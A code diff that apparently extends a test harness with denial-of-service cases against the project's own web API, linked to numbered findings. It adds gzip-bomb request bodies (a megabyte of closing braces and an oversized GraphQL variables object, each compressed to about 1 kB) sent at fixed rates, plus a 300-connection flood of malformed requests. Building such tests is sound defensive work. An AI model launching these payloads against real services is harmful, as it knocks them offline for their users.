@@ -1,8 +1,18 @@
 import { once } from 'node:events';
+import { gzipSync } from 'node:zlib';
 import type { Arm, Attack } from './attack.ts';
 import { signed } from './attack.ts';
 
 const smallest = 'GET / HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(2_000);
+const gzip = { 'content-encoding': 'gzip' };
+const closers = gzipSync(`{${'}'.repeat(1_000_000)}`);
+const wrong = Array.from({ length: 60 }, (_, place) => [`wrong${String(place)}`, 1] as const);
+const variables = gzipSync(
+  JSON.stringify({
+    query: 'query ($f: OrderFilter) { myOrders(filter: $f) { totalCount } }',
+    variables: { f: { ...Object.fromEntries(wrong), email: 'x'.repeat(1_000_000) } },
+  }),
+);
 const names = Array.from({ length: 19_900 }, (_, place) => `"n${String(place)}":1`).join(',');
 
 /** Sends a request over a connection five times at once, and again whenever one is answered. */
@@ -64,6 +74,33 @@ export const attacksOfCrowds: readonly Attack[] = [
         arm.ask('GET', '/api/orders/mine', {
           headers: { 'x-serviceapikey': `made-up-${String(place)}` },
         }),
+      ),
+  },
+  {
+    finding: '0',
+    does: '300 connections send what is no request, and connect again',
+    strike: (arm) =>
+      arm.crowd(300, async () => {
+        const socket = arm.connect();
+        arm.count(0);
+        socket.resume().write('X\r\n\r\n');
+        await once(socket, 'close');
+      }),
+  },
+  {
+    finding: '1',
+    does: 'a megabyte of closing brackets in 1 kB of gzip, 50 times a second',
+    strike: (arm) =>
+      arm.pace(50, () =>
+        arm.ask('POST', '/api/orders', { headers: { ...signed(arm), ...gzip }, body: closers }),
+      ),
+  },
+  {
+    finding: '4',
+    does: 'a megabyte of variables with sixty wrong names in 1 kB of gzip, 20 times a second',
+    strike: (arm) =>
+      arm.pace(20, () =>
+        arm.ask('POST', '/graphql', { headers: { ...signed(arm), ...gzip }, body: variables }),
       ),
   },
   {
